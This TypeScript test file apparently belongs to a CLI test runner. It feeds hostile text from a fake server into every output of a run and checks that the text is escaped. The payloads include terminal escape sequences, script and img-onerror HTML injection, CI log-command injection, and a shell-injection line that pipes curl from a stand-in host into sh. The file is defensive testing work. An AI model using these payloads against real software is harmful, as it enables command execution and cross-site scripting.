/**
 * A target that puts scripts, terminal escapes and XML terminators into every text it can, against the real command line: all
 * output of a run shows them as text.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { chromium } from '@playwright/test';
import { findBrowser } from '../../cli/common/browser.ts';
import { folderFor, proofmark, resultsIn, writeProfile } from '../../cli/common/command.fixture.ts';
import { openRawServer } from './raw-server.ts';
import { bytesOf, referenceService } from './reference-service.ts';

/** Text that closes its context, sends terminal escapes, and hides or reorders letters. A script in it would set `stolen`. */
const HOSTILE = [
  '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u001b]8;;http://stranger.example\u0007\u009b5n\b\r\u0000\u007f\u202e\u2066\u200b\ufeff\uffff\ud800',
  '</pre></script></textarea><script>globalThis.stolen=1</script><img src=//stranger.example/x onerror=globalThis.stolen=1>',
  '"\'`&amp;]]>--><![CDATA[\n## Heading\n| a | b |\n[link](javascript:stolen=1)![p](http://stranger.example/p.png)',
  '\n::error::owned\n##vso[task.setvariable variable=A]owned ##[error]owned',
  "'; curl http://stranger.example | sh; $(touch /tmp/proofmark-owned) `id` ${HOME} \\",
].join('');

/** Fields that stay unchanged, because without them the run would stop. */
const KEPT = new Set(['handle', 'apiToken', 'id', 'next_page_uri', 'country', 'reference']);

function spoiled(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return KEPT.has(key) || /^countries|^available/.test(key) ? value : value + HOSTILE;
  if (Array.isArray(value)) return value.map((item) => spoiled(item, key));
  if (typeof value !== 'object' || value === null) return value;
  const members = Object.entries(value).map(([name, member]) => [name, spoiled(member, name)]);
  return Object.fromEntries([...members, [HOSTILE, HOSTILE], ['__proto__', HOSTILE]]);
}

const CHECKS = [
  'delivery.method.title-kept',
  'delivery.method.read-by-handle',
  'delivery.method.unknown-read-refused',
  'delivery.point.address-kept',
  'delivery.observations.method-fields',
  'reseller.balance.*',
  'reseller.website.*',
  'envelope.delivery.unknown-path',
];

test('hostile texts appear as text in all output of a run', async (t) => {
  const browser = await findBrowser();
  const folder = folderFor(t);
  const server = await openRawServer(async (socket, asked) => {
    const answered = await service.response(asked);
    const isJson = answered.headers.some(([name, value]) => /^content-type$/i.test(name) && /json/.test(value));
    // Refusals are not JSON, so that their text is not even escaped as JSON.
    const text = answered.status >= 400 ? HOSTILE : JSON.stringify(spoiled(JSON.parse(answered.body.toString())));
    const body = isJson ? Buffer.from(text) : answered.body;
    const odd = 'a\tb </script><script>stolen=1</script> \u0080\u009b31m\u00ff';
    socket.write(
      bytesOf(answered, {
        body,
        headers: [
          ['X-Odd', odd],
          ['Set-Cookie', `session=${odd}`],
        ],
      }),
    );
  });
  t.after(() => server.close());
  const service = referenceService(`http://127.0.0.1:${server.port}`);
  const { delivery, website, reseller, v1, api } = service.profile();
  const profile = writeProfile(folder, 'hostile.json', {
    ...{ name: 'a <b>&amp; hostile shop', v1, api, delivery, website, reseller },
    allow: ['write', 'settings', 'domains'],
  });
  const out = join(folder, 'out');
  const only = CHECKS.flatMap((id) => ['--only', id]);
  const ran = await proofmark(['run', '--target', profile, '--out', out, ...only]);
  assert.equal(ran.code, 1, ran.stdout + ran.stderr);
  const results = resultsIn(out);
  assert.equal(results.counts.error ?? 0, 0);

  await t.test('no escape sequence reaches the terminal', () => {
    const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e\u2066\ufeff]/;
    assert.doesNotMatch(ran.stdout + ran.stderr, controls);
    assert.match(ran.stdout, /\\u001b\[2J/);
    assert.doesNotMatch(ran.stdout + ran.stderr, /##(?:vso)?\[|^\s*::/m);
  });

  await t.test('every line of the events is JSON, and the folder contains only the files of a run', () => {
    const lines = readFileSync(join(out, 'events.ndjson'), 'utf8').split('\n');
    assert.equal(lines.pop(), '');
    for (const line of lines) JSON.parse(line);
    const names = readdirSync(out).sort();
    assert.deepEqual(names, ['ctrf.json', 'events.ndjson', 'junit.xml', 'report.html', 'results.json', 'summary.md']);
  });

  await t.test('the Markdown summary contains no markup of the target', () => {
    const summary = readFileSync(join(out, 'summary.md'), 'utf8');
    assert.match(summary, /globalThis/);
    assert.doesNotMatch(withoutCode(summary), /<(script|img|\/script)|\]\(javascript:|!\[p\]\(|^## Heading/m);
  });

  const skip = browser === undefined ? 'there is no browser here' : false;
  await t.test('in a browser no script runs, no request is sent, and junit.xml is well-formed', { skip }, async () => {
    const opened = await chromium.launch({ executablePath: browser!.path });
    try {
      const page = await opened.newPage();
      const complaints: string[] = [];
      page.on('console', (message) => complaints.push(`console: ${message.text()}`));
      page.on('pageerror', (error) => complaints.push(`error: ${error.message}`));
      page.on('dialog', (dialog) => complaints.push(`dialog: ${dialog.message()}`));
      page.on('request', (request) => {
        if (!/^(file|data):/.test(request.url())) complaints.push(`request: ${request.url()}`);
      });
      await page.goto(pathToFileURL(join(out, 'report.html')).href);
      const seen = await page.evaluate(() => {
        for (const details of document.querySelectorAll('details')) details.open = true;
        const foreign = [...document.images].filter((image) => !image.src.startsWith('data:')).length;
        const links = [...document.links].filter((link) => !link.getAttribute('href')?.startsWith('#')).length;
        // Compressed exchanges are data, not a program.
        const scripts = [...document.scripts].filter(
          ({ type }) => type === '' || /javascript|module/.test(type),
        ).length;
        return { stolen: 'stolen' in globalThis, foreign, links, scripts, text: document.body.textContent ?? '' };
      });
      assert.deepEqual([seen.stolen, seen.foreign, seen.links, seen.scripts], [false, 0, 0, 1]);
      assert.ok(seen.text.split('<script>globalThis.stolen=1</script>').length > 10, 'it is there, as text');
      const junit = readFileSync(join(out, 'junit.xml'), 'utf8');
      const parsed = await page.evaluate((xml) => {
        const parsedXml = new DOMParser().parseFromString(xml, 'application/xml');
        return {
          error: parsedXml.querySelector('parsererror')?.textContent ?? '',
          cases: parsedXml.querySelectorAll('testcase').length,
          elements: [...new Set([...parsedXml.querySelectorAll('*')].map(({ tagName }) => tagName))].sort(),
        };
      }, junit);
      assert.equal(parsed.error, '');
      assert.equal(parsed.cases, results.checks.length);
      const known = [
        'error',
        'failure',
        'properties',
        'property',
        'skipped',
        'system-out',
        'testcase',
        'testsuite',
        'testsuites',
      ];
      assert.deepEqual(
        parsed.elements.filter((name) => !known.includes(name)),
        [],
      );
      assert.deepEqual(complaints, []);
    } finally {
      await opened.close();
    }
  });
});

/** Markdown without its code blocks and code spans, which show text verbatim. */
function withoutCode(markdown: string): string {
  return markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1`*$/gm, '').replace(/(`+)(?:(?!\1)[\s\S])+\1/g, '');
}
